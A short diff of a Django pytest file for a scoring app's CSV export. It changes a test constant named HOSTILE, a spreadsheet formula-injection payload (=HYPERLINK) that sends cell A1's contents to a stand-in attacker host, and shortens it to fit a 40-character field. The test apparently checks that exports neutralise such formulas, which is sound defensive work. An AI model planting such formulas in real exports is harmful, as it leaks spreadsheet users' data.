@@ -12,7 +12,8 @@ from scoring.views import _csv_text
 
 pytestmark = pytest.mark.django_db
 
-HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+# Fits a system code (40 characters; PostgreSQL enforces the length).
+HOSTILE = '=HYPERLINK("http://e.vil/?"&A1,"x")'
 
 
 @pytest.fixture
